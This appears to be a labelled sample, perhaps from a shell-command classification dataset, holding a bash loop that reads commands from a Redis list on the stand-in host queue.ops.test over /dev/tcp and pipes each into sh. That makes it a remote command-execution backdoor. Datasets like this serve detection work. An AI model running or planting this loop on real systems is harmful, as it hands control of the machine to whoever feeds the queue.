# class: shell; possible: low medium; style: Redis in bash, piped into sh
exec 6<>/dev/tcp/queue.ops.test/6379
for i in $(seq 1 12); do
    printf '*2\r\n$4\r\nLPOP\r\n$4\r\ncmds\r\n' >&6
    read -r head <&6
    case $head in
        '$-1'*) sleep 2; continue ;;
    esac
    read -r cmd <&6
    printf '%s\n' "${cmd%$'\r'}"
done | sh
